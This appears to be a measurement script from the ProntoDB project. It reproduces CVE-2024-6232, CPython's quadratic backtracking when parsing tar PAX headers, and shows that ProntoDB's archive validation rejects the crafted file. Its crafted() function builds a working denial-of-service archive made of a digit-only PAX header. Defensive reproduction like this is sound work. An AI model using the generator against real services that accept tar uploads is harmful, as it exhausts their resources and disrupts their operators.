"""Reproduce CVE-2024-6232 (CPython ``tarfile`` PAX header parsing backtracks) against the raw
``tarfile`` of this Python, then show that ProntoDB refuses the same archive at once.

    python tools/cve_2024_6232.py [--digits 400000] [--timeout 20] [--out FILE]

The archive is a gzip'd tar whose first member is a PAX extended header made of nothing but
ASCII digits. CPython before 3.11.10 / 3.12.6 (and 3.13.0rc2) looks for a ``hdrcharset``
record with ``re.search(rb"\\d+ hdrcharset=([^\\n]+)\\n", buf)``: at every start position
``\\d+`` takes the whole run of digits and gives it back one digit at a time, so the work is
quadratic in the header's size, while gzip shrinks the run of digits to a few hundred bytes.
The raw ``tarfile.open(...).getmembers()`` runs in a child process with a timeout; smaller
headers are timed first to show the quadratic growth. Then ``prontodb restore FILE`` and
``prontodb backup --list`` (with the archive in the backups directory) run with the same
timeout: ProntoDB's TarGate validates the PAX header before ``tarfile`` sees it.

This is a measurement, not a test (it is about time); the suite's archive tests
(tests/test_attack_archives.py) check the refusal itself.
"""

from __future__ import annotations

import argparse
import gzip
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time

RAW = r"""
import sys, tarfile
with tarfile.open(sys.argv[1], "r:gz") as tar:
    tar.getmembers()
"""


def crafted(digits: int) -> bytes:
    """A .tar.gz: a PAX extended header of ``digits`` ASCII '1's, then one small file."""
    payload = b"1" * digits
    pax = tarfile.TarInfo("PaxHeaders/manifest.json")
    pax.type = tarfile.XHDTYPE
    pax.size = len(payload)
    member = tarfile.TarInfo("manifest.json")
    member.size = 2
    blocks = [
        pax.tobuf(format=tarfile.USTAR_FORMAT),
        payload + b"\0" * (-len(payload) % 512),
        member.tobuf(format=tarfile.USTAR_FORMAT),
        b"{}" + b"\0" * 510,
        b"\0" * 1024,
    ]
    return gzip.compress(b"".join(blocks), compresslevel=9, mtime=0)


def timed(args: list[str], timeout: float, env: dict[str, str] | None = None) -> str:
    start = time.perf_counter()
    try:
        done = subprocess.run(args, capture_output=True, timeout=timeout, env=env)
    except subprocess.TimeoutExpired:
        return f"still running after {timeout:.0f} s (killed)"
    seconds = time.perf_counter() - start
    err = done.stderr.decode(errors="replace").strip().splitlines()
    return f"exit {done.returncode} in {seconds:.2f} s" + (f" [{err[-1]}]" if err else "")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--digits", type=int, default=400_000)
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("--out", help="also keep the crafted archive here")
    args = parser.parse_args()
    print(f"Python {sys.version.split()[0]} ({sys.executable}), load {os.getloadavg()}")
    folder = tempfile.mkdtemp()
    try:
        for digits in (5_000, 10_000, 20_000, 40_000, args.digits):
            path = os.path.join(folder, f"pax-{digits}.tar.gz")
            data = crafted(digits)
            with open(path, "wb") as fh:
                fh.write(data)
            outcome = timed([sys.executable, "-c", RAW, path], args.timeout)
            print(f"raw tarfile, {digits:>7} digits ({len(data)} bytes gz): {outcome}")
        if args.out:
            shutil.copy(path, args.out)
        home = os.path.join(folder, "home")
        env = {k: v for k, v in os.environ.items() if not k.startswith("PRONTO_")}
        env.update(
            HOME=home,
            XDG_DATA_HOME=os.path.join(home, "data"),
            XDG_CONFIG_HOME=os.path.join(home, "config"),
            XDG_CACHE_HOME=os.path.join(home, "cache"),
        )
        prog = [sys.executable, "-m", "prontodb"]
        restored = timed([*prog, "restore", path], args.timeout, env)
        print(f"prontodb restore, same archive: {restored}")
        backups = os.path.join(home, "data", "prontodb", "backups")
        os.makedirs(backups, mode=0o700)
        shutil.copy(path, os.path.join(backups, "bomb.tar.gz"))
        listed = timed([*prog, "backup", "--list"], args.timeout, env)
        print(f"prontodb backup --list, archive in the backups directory: {listed}")
    finally:
        shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
